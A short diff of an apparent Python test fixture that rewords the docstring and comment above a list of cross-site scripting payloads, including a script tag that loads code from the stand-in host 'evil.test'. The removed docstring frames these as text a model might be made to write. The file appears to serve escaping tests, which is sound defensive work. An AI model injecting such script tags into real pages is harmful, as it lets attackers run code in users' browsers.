@@ -1,8 +1,8 @@
-"""What a model may write, or somebody make it write, to run a script, fetch something, or pass for the page itself."""
+"""Texts that would run a script, load something, or imitate a part of the page if they were treated as HTML."""
 
 from __future__ import annotations
 
-# Each would call `caught()`, ask the host `evil.test` for something, or put an element of its own into the page.
+# Each tries to call `caught()`, to load something from `evil.test`, or to insert an element into the page.
 PAYLOADS = [
     "<script>caught()</script>",
     "<script src=//evil.test/a.js></script>",
